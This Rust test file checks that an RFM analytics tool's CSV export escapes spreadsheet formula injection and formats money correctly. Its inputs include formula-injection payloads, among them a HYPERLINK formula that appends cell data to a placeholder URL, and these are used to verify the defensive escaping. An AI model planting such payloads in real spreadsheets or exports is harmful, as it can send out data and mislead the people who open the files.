//! Exported CSVs open safely in a spreadsheet: text cells are neutralised against formula
//! injection (OWASP), numbers stay numbers (negative ones too) and money is written to the cent.

use rfm_studio::cli::write_rfm_csv;
use rfm_studio::core::export::{csv_text, money};
use rfm_studio::core::rfm::{CustomerRfm, RfmTable, Segment};

fn customer(id: &str, monetary: f64) -> CustomerRfm {
    CustomerRfm {
        customer_id: id.to_owned(),
        recency: 7,
        frequency: 2,
        monetary,
        r_score: 5,
        f_score: 3,
        m_score: 1,
        segment: Segment::Champions,
    }
}

#[test]
fn rfm_csv_neutralises_text_and_keeps_numbers() {
    let ids = [
        "=HYPERLINK(\"http://x\"&A2,\"Click\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\tX",
        "\rX",
        "12346",
        "Smith, J",
    ];
    let table = RfmTable {
        customers: ids
            .iter()
            .enumerate()
            .map(|(i, id)| customer(id, if i == 0 { 484.33000000000004 } else { -12.5 }))
            .collect(),
        snapshot_date: None,
    };
    let mut out = Vec::new();
    write_rfm_csv(&table, &mut out).unwrap();
    let expected = "\
customer_id,recency,frequency,monetary,r_score,f_score,m_score,segment
\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Click\"\")\",7,2,484.33,5,3,1,Champions
'=1+1,7,2,-12.50,5,3,1,Champions
'+1+1,7,2,-12.50,5,3,1,Champions
'-1+1,7,2,-12.50,5,3,1,Champions
'@SUM(A1),7,2,-12.50,5,3,1,Champions
'\tX,7,2,-12.50,5,3,1,Champions
\"'\rX\",7,2,-12.50,5,3,1,Champions
12346,7,2,-12.50,5,3,1,Champions
\"Smith, J\",7,2,-12.50,5,3,1,Champions
";
    assert_eq!(String::from_utf8(out).unwrap(), expected);
}

#[test]
fn text_cells_and_money_one_by_one() {
    assert_eq!(csv_text("=1+1"), "'=1+1");
    assert_eq!(csv_text("a\"b"), "\"a\"\"b\"");
    assert_eq!(csv_text("line\nbreak"), "\"line\nbreak\"");
    assert_eq!(csv_text("plain"), "plain");
    assert_eq!(money(0.1 + 0.2), "0.30");
    assert_eq!(money(-0.001), "0.00");
    assert_eq!(money(1234567.891), "1234567.89");
}
